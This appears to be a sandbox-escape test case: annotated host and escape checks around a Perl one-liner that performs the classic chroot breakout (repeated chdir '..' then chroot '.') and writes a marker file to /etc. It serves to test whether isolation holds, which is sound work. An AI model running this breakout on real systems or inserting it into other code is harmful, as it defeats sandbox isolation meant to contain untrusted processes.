#? host: rm -f /etc/climbed
#? control: no: the node's root has no other one above it
#? escaped: test -e /etc/climbed
perl -e 'mkdir "/tmp/jail"; chroot "/tmp/jail" or exit; chdir ".." for 1 .. 64; chroot "."; open F, ">", "/etc/climbed"; print F "x"; 
  exit 1 unless -d "/proc/1"; print "ESCAPED\n" unless -e "/var/disco/run/shadow"'
